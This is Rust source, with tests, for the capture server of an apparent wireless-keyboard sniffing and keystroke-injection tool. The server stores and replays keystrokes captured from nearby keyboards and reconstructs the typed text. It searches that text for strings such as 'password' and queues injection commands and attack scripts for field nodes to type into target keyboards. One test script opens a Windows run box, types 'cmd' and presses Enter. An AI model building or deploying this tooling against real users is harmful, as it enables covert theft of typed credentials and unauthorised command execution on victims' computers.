//! The capture server without its transport: record store, keyboard
//! registry, queries, injection commands and attack scripts.
//!
//! Every accepted record is appended to `records.log` as
//! `<receive_time_us> <wire record>`. On startup the log is replayed to rebuild
//! the in-memory index. Queries filter on the node-reported time `t`; the
//! receive time is kept alongside for reference. Commands live in memory only.
//!
//! Callers pass the current server time explicitly, which keeps the store
//! deterministic under simulation.

pub mod commands;
pub mod script;
pub mod wire;

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use serde::Serialize;
use thiserror::Error;

pub use commands::{CommandBook, CommandError, CommandStatus, InjectionCommand, ScriptOrigin, CLAIM_TIMEOUT_US};
pub use script::{AttackScript, ScriptError, ScriptStep, StepAction};
pub use wire::{IngestAck, PendingCommand, RejectedLine, WireError};

use crate::esb::MacAddress;
use crate::ms_protocol::keyseq::{self, KeySeqError};
use crate::ms_protocol::PacketType;
use crate::node_agent::{CaptureRecord, Location, NodeIdentity};
use crate::{Channel, Micros};

pub const RECORD_LOG: &str = "records.log";
pub const SCRIPT_DIR: &str = "scripts";
pub const SCRIPT_EXT: &str = "script";
/// Characters of context on each side of a search match.
pub const SEARCH_CONTEXT_CHARS: usize = 16;

#[derive(Debug, Error)]
pub enum StoreError {
    #[error(transparent)]
    Io(#[from] io::Error),
    #[error("{path}: line {line}: {reason}")]
    Replay { path: PathBuf, line: usize, reason: String },
    #[error("unknown keyboard {0}")]
    UnknownKeyboard(MacAddress),
    #[error("range start {from} is after end {to}")]
    InvalidRange { from: Micros, to: Micros },
    #[error("search pattern is empty")]
    EmptyPattern,
    #[error("injection text is empty")]
    EmptyText,
    #[error("injection text: {0}")]
    InvalidText(#[from] KeySeqError),
    #[error(transparent)]
    Script(#[from] ScriptError),
    #[error("script `{0}` already exists")]
    DuplicateScript(String),
    #[error("no script named `{0}`")]
    UnknownScript(String),
    #[error(transparent)]
    Command(#[from] CommandError),
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct KeyboardEntry {
    pub mac: MacAddress,
    pub first_seen: Micros,
    pub last_seen: Micros,
    pub channels: BTreeSet<Channel>,
    pub nodes: BTreeSet<String>,
    pub record_count: usize,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct NodeEntry {
    pub node_id: String,
    pub location: Location,
    pub announced_at: Option<Micros>,
    pub last_report: Option<Micros>,
    pub record_count: usize,
    pub keyboards: BTreeSet<MacAddress>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct StoredRecord {
    #[serde(flatten)]
    pub record: CaptureRecord,
    pub received_at: Micros,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CaptureView {
    pub mac: MacAddress,
    pub records: Vec<StoredRecord>,
    /// Characters of the keystroke records in the range, in time order.
    pub text: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SearchMatch {
    pub mac: MacAddress,
    /// Time of the first matching keystroke.
    pub t: Micros,
    pub context: String,
}

enum LogSink {
    Memory(String),
    File { path: PathBuf, file: File },
}

pub struct CaptureStore {
    log: LogSink,
    script_dir: Option<PathBuf>,
    records: BTreeMap<MacAddress, Vec<StoredRecord>>,
    seen: HashSet<(String, MacAddress, Micros, u8)>,
    keyboards: BTreeMap<MacAddress, KeyboardEntry>,
    nodes: BTreeMap<String, NodeEntry>,
    commands: CommandBook,
    scripts: BTreeMap<String, AttackScript>,
    next_run: u64,
}

impl CaptureStore {
    /// A store whose log lives in memory; see [`CaptureStore::log_text`].
    pub fn in_memory() -> Self {
        CaptureStore {
            log: LogSink::Memory(String::new()),
            script_dir: None,
            records: BTreeMap::new(),
            seen: HashSet::new(),
            keyboards: BTreeMap::new(),
            nodes: BTreeMap::new(),
            commands: CommandBook::new(),
            scripts: BTreeMap::new(),
            next_run: 1,
        }
    }

    /// Opens (creating if needed) a data directory, replaying its record log
    /// and loading its scripts. A torn final log line is discarded.
    pub fn open(dir: &Path) -> Result<Self, StoreError> {
        fs::create_dir_all(dir.join(SCRIPT_DIR))?;
        let path = dir.join(RECORD_LOG);
        let mut store = CaptureStore::in_memory();

        let mut text = match fs::read_to_string(&path) {
            Ok(t) => t,
            Err(e) if e.kind() == io::ErrorKind::NotFound => String::new(),
            Err(e) => return Err(e.into()),
        };
        if !text.is_empty() && !text.ends_with('\n') {
            let keep = text.rfind('\n').map_or(0, |i| i + 1);
            text.truncate(keep);
            OpenOptions::new().write(true).open(&path)?.set_len(keep as u64)?;
        }
        for (i, line) in text.lines().enumerate() {
            let replay_err = |reason: String| StoreError::Replay {
                path: path.clone(),
                line: i + 1,
                reason,
            };
            let (recv, rec) = line.split_once(' ').ok_or_else(|| replay_err("missing receive time".into()))?;
            let received_at: Micros = recv.parse().map_err(|_| replay_err(format!("bad receive time `{recv}`")))?;
            let record = wire::decode_record(rec).map_err(|e| replay_err(e.to_string()))?;
            store.apply(record, received_at);
        }

        let mut names: Vec<PathBuf> = fs::read_dir(dir.join(SCRIPT_DIR))?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == SCRIPT_EXT))
            .collect();
        names.sort();
        for p in names {
            let name = p.file_stem().and_then(|s| s.to_str()).unwrap_or_default().to_string();
            let script = AttackScript::parse(&name, &fs::read_to_string(&p)?).map_err(|e| StoreError::Replay {
                path: p.clone(),
                line: 0,
                reason: e.to_string(),
            })?;
            store.scripts.insert(name, script);
        }

        let file = OpenOptions::new().create(true).append(true).open(&path)?;
        store.log = LogSink::File { path, file };
        store.script_dir = Some(dir.join(SCRIPT_DIR));
        Ok(store)
    }

    /// The full record log.
    pub fn log_text(&self) -> Result<String, StoreError> {
        match &self.log {
            LogSink::Memory(s) => Ok(s.clone()),
            LogSink::File { path, .. } => Ok(fs::read_to_string(path)?),
        }
    }

    fn append_log(&mut self, lines: &str) -> Result<(), StoreError> {
        match &mut self.log {
            LogSink::Memory(s) => s.push_str(lines),
            LogSink::File { file, .. } => {
                file.write_all(lines.as_bytes())?;
                file.flush()?;
            }
        }
        Ok(())
    }

    /// Applies a newline-delimited batch of wire records. Malformed lines are
    /// reported and skipped; the rest of the batch is applied as a unit.
    pub fn ingest(&mut self, body: &str, now: Micros) -> Result<IngestAck, StoreError> {
        let mut ack = IngestAck::default();
        let mut fresh = Vec::new();
        let mut batch_keys = HashSet::new();
        for (i, line) in body.lines().enumerate() {
            if line.is_empty() {
                continue;
            }
            match wire::decode_record(line) {
                Ok(r) => {
                    if self.seen.contains(&dedup_key(&r)) || !batch_keys.insert(dedup_key(&r)) {
                        ack.dedup += 1;
                    } else {
                        fresh.push(r);
                    }
                }
                Err(e) => ack.rejected.push(RejectedLine {
                    line: i + 1,
                    reason: e.to_string(),
                }),
            }
        }
        let mut lines = String::new();
        for r in &fresh {
            lines.push_str(&format!("{now} {}\n", wire::encode_record(r)));
        }
        self.append_log(&lines)?;
        ack.accepted = fresh.len();
        for r in fresh {
            self.apply(r, now);
        }
        Ok(ack)
    }

    pub fn ingest_records(&mut self, records: &[CaptureRecord], now: Micros) -> Result<IngestAck, StoreError> {
        self.ingest(&wire::encode_batch(records), now)
    }

    fn apply(&mut self, record: CaptureRecord, received_at: Micros) {
        if !self.seen.insert(dedup_key(&record)) {
            return;
        }
        let kb = self.keyboards.entry(record.mac).or_insert_with(|| KeyboardEntry {
            mac: record.mac,
            first_seen: record.t,
            last_seen: record.t,
            channels: BTreeSet::new(),
            nodes: BTreeSet::new(),
            record_count: 0,
        });
        kb.first_seen = kb.first_seen.min(record.t);
        kb.last_seen = kb.last_seen.max(record.t);
        kb.channels.insert(record.channel);
        kb.nodes.insert(record.node_id.clone());
        kb.record_count += 1;

        let node = self.nodes.entry(record.node_id.clone()).or_insert_with(|| NodeEntry {
            node_id: record.node_id.clone(),
            location: Location::default(),
            announced_at: None,
            last_report: None,
            record_count: 0,
            keyboards: BTreeSet::new(),
        });
        node.last_report = Some(node.last_report.map_or(received_at, |t| t.max(received_at)));
        node.record_count += 1;
        node.keyboards.insert(record.mac);

        let list = self.records.entry(record.mac).or_default();
        let at = list.partition_point(|r| r.record.t <= record.t);
        list.insert(at, StoredRecord { record, received_at });
    }

    pub fn announce(&mut self, identity: &NodeIdentity, now: Micros) {
        let node = self.nodes.entry(identity.node_id().to_string()).or_insert_with(|| NodeEntry {
            node_id: identity.node_id().to_string(),
            location: Location::default(),
            announced_at: None,
            last_report: None,
            record_count: 0,
            keyboards: BTreeSet::new(),
        });
        node.location = identity.location().clone();
        node.announced_at = Some(now);
    }

    pub fn keyboards(&self) -> impl Iterator<Item = &KeyboardEntry> {
        self.keyboards.values()
    }

    pub fn keyboard(&self, mac: &MacAddress) -> Option<&KeyboardEntry> {
        self.keyboards.get(mac)
    }

    pub fn nodes(&self) -> impl Iterator<Item = &NodeEntry> {
        self.nodes.values()
    }

    /// Records for `mac` with `from <= t <= to`, either bound optional.
    pub fn query_captures(&self, mac: &MacAddress, from: Option<Micros>, to: Option<Micros>) -> Result<CaptureView, StoreError> {
        let from = from.unwrap_or(0);
        let to = to.unwrap_or(Micros::MAX);
        if from > to {
            return Err(StoreError::InvalidRange { from, to });
        }
        let all = self.records.get(mac).ok_or(StoreError::UnknownKeyboard(*mac))?;
        let lo = all.partition_point(|r| r.record.t < from);
        let hi = all.partition_point(|r| r.record.t <= to);
        let records = all[lo..hi].to_vec();
        let text = text_stream(&records).into_iter().map(|(c, _)| c).collect();
        Ok(CaptureView {
            mac: *mac,
            records,
            text,
        })
    }

    /// The reconstructed text for `mac` over all time.
    pub fn text_view(&self, mac: &MacAddress) -> Option<String> {
        self.records
            .get(mac)
            .map(|r| text_stream(r).into_iter().map(|(c, _)| c).collect())
    }

    /// Every occurrence of `pattern` in every keyboard's text, overlapping
    /// matches included.
    pub fn search(&self, pattern: &str) -> Result<Vec<SearchMatch>, StoreError> {
        let needle: Vec<char> = pattern.chars().collect();
        if needle.is_empty() {
            return Err(StoreError::EmptyPattern);
        }
        let mut out = Vec::new();
        for (mac, records) in &self.records {
            let stream = text_stream(records);
            if stream.len() < needle.len() {
                continue;
            }
            let chars: Vec<char> = stream.iter().map(|(c, _)| *c).collect();
            for i in 0..=chars.len() - needle.len() {
                if chars[i..i + needle.len()] == needle[..] {
                    let lo = i.saturating_sub(SEARCH_CONTEXT_CHARS);
                    let hi = (i + needle.len() + SEARCH_CONTEXT_CHARS).min(chars.len());
                    out.push(SearchMatch {
                        mac: *mac,
                        t: stream[i].1,
                        context: chars[lo..hi].iter().collect(),
                    });
                }
            }
        }
        Ok(out)
    }

    pub fn enqueue_injection(&mut self, mac: &MacAddress, text: &str, now: Micros) -> Result<u64, StoreError> {
        if !self.keyboards.contains_key(mac) {
            return Err(StoreError::UnknownKeyboard(*mac));
        }
        if text.is_empty() {
            return Err(StoreError::EmptyText);
        }
        keyseq::parse(text)?;
        Ok(self.commands.create(*mac, text.to_string(), now, now, None))
    }

    pub fn scripts(&self) -> impl Iterator<Item = &AttackScript> {
        self.scripts.values()
    }

    pub fn script(&self, name: &str) -> Option<&AttackScript> {
        self.scripts.get(name)
    }

    pub fn add_script(&mut self, script: AttackScript) -> Result<(), StoreError> {
        script.validate()?;
        if self.scripts.contains_key(&script.name) {
            return Err(StoreError::DuplicateScript(script.name));
        }
        if let Some(dir) = &self.script_dir {
            let path = dir.join(format!("{}.{SCRIPT_EXT}", script.name));
            let tmp = path.with_extension("tmp");
            fs::write(&tmp, script.to_text())?;
            fs::rename(&tmp, &path)?;
        }
        self.scripts.insert(script.name.clone(), script);
        Ok(())
    }

    /// Expands a script into one command per step, each ready after the
    /// cumulative delay of the steps before it. Returns the run id and the
    /// command ids in step order.
    pub fn run_script(&mut self, mac: &MacAddress, name: &str, now: Micros) -> Result<(u64, Vec<u64>), StoreError> {
        if !self.keyboards.contains_key(mac) {
            return Err(StoreError::UnknownKeyboard(*mac));
        }
        let script = self.scripts.get(name).ok_or_else(|| StoreError::UnknownScript(name.to_string()))?;
        let run_id = self.next_run;
        self.next_run += 1;
        let mut ready_at = now;
        let mut ids = Vec::with_capacity(script.steps.len());
        for (i, step) in script.steps.iter().enumerate() {
            ready_at = ready_at.saturating_add(step.delay_us);
            let origin = ScriptOrigin {
                script: script.name.clone(),
                run_id,
                step: i + 1,
            };
            ids.push(self.commands.create(*mac, step.command_text(), now, ready_at, Some(origin)));
        }
        Ok((run_id, ids))
    }

    /// Commands a node may claim now: for keyboards it has reported, the
    /// oldest ready pending command, unless one is already running.
    pub fn poll_commands(&mut self, node_id: &str, now: Micros) -> Vec<PendingCommand> {
        self.commands.expire(now);
        let macs: Vec<MacAddress> = match self.nodes.get(node_id) {
            Some(n) => n.keyboards.iter().copied().collect(),
            None => return Vec::new(),
        };
        self.commands.offer(&macs, now)
    }

    pub fn update_command(&mut self, id: u64, node_id: &str, status: CommandStatus, now: Micros) -> Result<(), StoreError> {
        self.commands.expire(now);
        Ok(self.commands.update(id, node_id, status, now)?)
    }

    pub fn expire_commands(&mut self, now: Micros) {
        self.commands.expire(now);
    }

    pub fn commands(&self) -> impl Iterator<Item = &InjectionCommand> {
        self.commands.iter()
    }

    pub fn command(&self, id: u64) -> Option<&InjectionCommand> {
        self.commands.get(id)
    }
}

fn dedup_key(r: &CaptureRecord) -> (String, MacAddress, Micros, u8) {
    (r.node_id.clone(), r.mac, r.t, r.hid_code)
}

/// Folds time-ordered records into characters. The same keystroke reported by
/// several nodes (same `t`, key and modifiers) counts once.
fn text_stream(records: &[StoredRecord]) -> Vec<(char, Micros)> {
    let mut out = Vec::new();
    let mut group_t = None;
    let mut group: Vec<(u8, u8)> = Vec::new();
    for r in records.iter().map(|s| &s.record) {
        if r.packet_type != PacketType::Keystroke {
            continue;
        }
        if group_t != Some(r.t) {
            group_t = Some(r.t);
            group.clear();
        }
        let key = (r.hid_code, r.modifiers.bits());
        if group.contains(&key) {
            continue;
        }
        group.push(key);
        if let Some(c) = r.ch {
            out.push((c, r.t));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ms_protocol::{char_to_key, hid_to_char, Modifiers};

    const MAC: MacAddress = MacAddress::new([0xCD, 0x11, 0x22, 0xAA, 0x55]);

    fn typed(node: &str, text: &str, t0: Micros) -> Vec<CaptureRecord> {
        let ch = Channel::new(25).unwrap();
        let mut out = Vec::new();
        for (i, c) in text.chars().enumerate() {
            let (hid, mods) = char_to_key(c).unwrap();
            let t = t0 + i as Micros * 100_000;
            out.push(CaptureRecord::new(node.into(), MAC, ch, t, PacketType::Keystroke, hid, mods));
            out.push(CaptureRecord::new(node.into(), MAC, ch, t + 10_000, PacketType::Idle, 0, Modifiers::NONE));
        }
        out
    }

    fn keystrokes_only(r: Vec<CaptureRecord>) -> Vec<CaptureRecord> {
        r.into_iter().filter(|r| r.packet_type == PacketType::Keystroke).collect()
    }

    #[test]
    fn fresh_then_replayed_batch() {
        let mut s = CaptureStore::in_memory();
        let batch = keystrokes_only(typed("n1", "secret", 0));
        let ack = s.ingest_records(&batch, 10).unwrap();
        assert_eq!((ack.accepted, ack.dedup), (6, 0));
        let before = s.query_captures(&MAC, None, None).unwrap();
        let ack = s.ingest_records(&batch, 20).unwrap();
        assert_eq!((ack.accepted, ack.dedup), (0, 6));
        assert_eq!(s.query_captures(&MAC, None, None).unwrap(), before);
        assert_eq!(before.text, "secret");
        assert_eq!(s.log_text().unwrap().lines().count(), 6);
    }

    #[test]
    fn corrupt_line_is_reported_by_number() {
        let mut s = CaptureStore::in_memory();
        let body = wire::encode_batch(&keystrokes_only(typed("n1", "secret", 0)));
        let mut lines: Vec<&str> = body.lines().collect();
        lines[2] = "v1|n1|cd1122aa55|25|x|78|04|00";
        let ack = s.ingest(&lines.join("\n"), 0).unwrap();
        assert_eq!(ack.accepted, 5);
        assert_eq!(ack.rejected.len(), 1);
        assert_eq!(ack.rejected[0].line, 3);
    }

    #[test]
    fn duplicate_within_one_batch_counts_once() {
        let mut s = CaptureStore::in_memory();
        let r = keystrokes_only(typed("n1", "a", 0));
        let ack = s.ingest_records(&[r[0].clone(), r[0].clone()], 0).unwrap();
        assert_eq!((ack.accepted, ack.dedup), (1, 1));
    }

    #[test]
    fn ranges_and_unknown_keyboards() {
        let mut s = CaptureStore::in_memory();
        s.ingest_records(&typed("n1", "hello world", 1_000_000), 0).unwrap();
        let all = s.query_captures(&MAC, None, None).unwrap();
        assert_eq!(all.text, "hello world");
        assert_eq!(all.records.len(), 22);
        assert!(all.records.windows(2).all(|w| w[0].record.t <= w[1].record.t));

        let none = s.query_captures(&MAC, Some(0), Some(999_999)).unwrap();
        assert!(none.records.is_empty());
        let hello = s.query_captures(&MAC, Some(1_000_000), Some(1_400_000)).unwrap();
        assert_eq!(hello.text, "hello");

        let other = MacAddress::new([0xCD, 0, 0, 0, 0]);
        assert!(matches!(s.query_captures(&other, None, None), Err(StoreError::UnknownKeyboard(_))));
        assert!(matches!(s.query_captures(&MAC, Some(5), Some(4)), Err(StoreError::InvalidRange { .. })));
    }

    #[test]
    fn text_view_is_fold_of_keystrokes() {
        let mut s = CaptureStore::in_memory();
        s.ingest_records(&typed("n1", "Mixed Case 123!", 0), 0).unwrap();
        let view = s.query_captures(&MAC, None, None).unwrap();
        let fold: String = view
            .records
            .iter()
            .filter(|r| r.record.packet_type == PacketType::Keystroke)
            .filter_map(|r| hid_to_char(r.record.hid_code, r.record.modifiers))
            .collect();
        assert_eq!(view.text, fold);
    }

    #[test]
    fn two_nodes_merge_in_registry_and_text() {
        let mut s = CaptureStore::in_memory();
        s.ingest_records(&typed("n1", "abc", 0), 0).unwrap();
        s.ingest_records(&typed("n2", "abc", 0), 0).unwrap();
        let kb = s.keyboard(&MAC).unwrap();
        assert_eq!(kb.nodes.len(), 2);
        assert_eq!(kb.record_count, 12);
        assert_eq!(s.text_view(&MAC).unwrap(), "abc");
        assert_eq!(s.keyboards().count(), 1);
    }

    #[test]
    fn search_spans_idles_and_reports_context() {
        let mut s = CaptureStore::in_memory();
        s.ingest_records(&typed("n1", "my password is hunter2 and that is my password", 0), 0)
            .unwrap();
        let m = s.search("password").unwrap();
        assert_eq!(m.len(), 2);
        assert_eq!(m[0].t, 3 * 100_000);
        assert_eq!(m[0].context, "my password is hunter2 and ");
        assert!(s.search("swordfish").unwrap().is_empty());
        assert!(matches!(s.search(""), Err(StoreError::EmptyPattern)));
        assert_eq!(s.search("aa").unwrap().len(), 0);
    }

    #[test]
    fn injection_requires_known_keyboard_and_valid_text() {
        let mut s = CaptureStore::in_memory();
        assert!(matches!(s.enqueue_injection(&MAC, "ok", 0), Err(StoreError::UnknownKeyboard(_))));
        s.ingest_records(&typed("n1", "a", 0), 0).unwrap();
        assert!(matches!(s.enqueue_injection(&MAC, "", 0), Err(StoreError::EmptyText)));
        assert!(matches!(s.enqueue_injection(&MAC, "{nope}", 0), Err(StoreError::InvalidText(_))));
        let id = s.enqueue_injection(&MAC, "ok", 5).unwrap();
        assert!(s.poll_commands("n2", 5).is_empty());
        let offered = s.poll_commands("n1", 5);
        assert_eq!(offered[0].command_id, id);
        s.update_command(id, "n1", CommandStatus::Running, 6).unwrap();
        s.update_command(id, "n1", CommandStatus::Done, 7).unwrap();
        assert_eq!(s.command(id).unwrap().status, CommandStatus::Done);
    }

    #[test]
    fn script_expands_into_ordered_commands() {
        let mut s = CaptureStore::in_memory();
        s.ingest_records(&typed("n1", "a", 0), 0).unwrap();
        let script = AttackScript::parse("run", "delay=0 chord=gui+r\ndelay=500000 text=cmd\ndelay=100000 chord=enter").unwrap();
        s.add_script(script.clone()).unwrap();
        assert!(matches!(s.add_script(script), Err(StoreError::DuplicateScript(_))));
        assert!(matches!(s.run_script(&MAC, "nope", 0), Err(StoreError::UnknownScript(_))));
        let (run, ids) = s.run_script(&MAC, "run", 1_000).unwrap();
        assert_eq!(run, 1);
        assert_eq!(ids.len(), 3);
        let cmds: Vec<&InjectionCommand> = ids.iter().map(|i| s.command(*i).unwrap()).collect();
        assert_eq!(cmds[0].text, "{gui+r}");
        assert_eq!(cmds[1].text, "cmd");
        assert_eq!(cmds.iter().map(|c| c.ready_at).collect::<Vec<_>>(), vec![1_000, 501_000, 601_000]);
        assert_eq!(cmds[2].origin.as_ref().unwrap().step, 3);
    }

    #[test]
    fn persists_and_replays() {
        let dir = tempfile::tempdir().unwrap();
        {
            let mut s = CaptureStore::open(dir.path()).unwrap();
            s.ingest_records(&typed("n1", "persist", 0), 42).unwrap();
            s.add_script(AttackScript::parse("x", "text=hi").unwrap()).unwrap();
        }
        // A torn write leaves a partial last line behind.
        let log = dir.path().join(RECORD_LOG);
        let mut f = OpenOptions::new().append(true).open(&log).unwrap();
        f.write_all(b"77 v1|n1|cd11").unwrap();
        drop(f);

        let mut s = CaptureStore::open(dir.path()).unwrap();
        assert_eq!(s.text_view(&MAC).unwrap(), "persist");
        assert!(s.script("x").is_some());
        let ack = s.ingest_records(&typed("n1", "persist", 0), 50).unwrap();
        assert_eq!(ack.accepted, 0);
        s.ingest_records(&typed("n1", "!", 10_000_000), 60).unwrap();
        let text = s.log_text().unwrap();
        assert!(text.lines().all(|l| l.split_once(' ').is_some_and(|(_, w)| wire::decode_record(w).is_ok())));
        drop(s);
        assert_eq!(CaptureStore::open(dir.path()).unwrap().text_view(&MAC).unwrap(), "persist!");
    }

    #[test]
    fn corrupt_log_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(RECORD_LOG), "1 garbage\n").unwrap();
        assert!(matches!(CaptureStore::open(dir.path()), Err(StoreError::Replay { line: 1, .. })));
    }
}
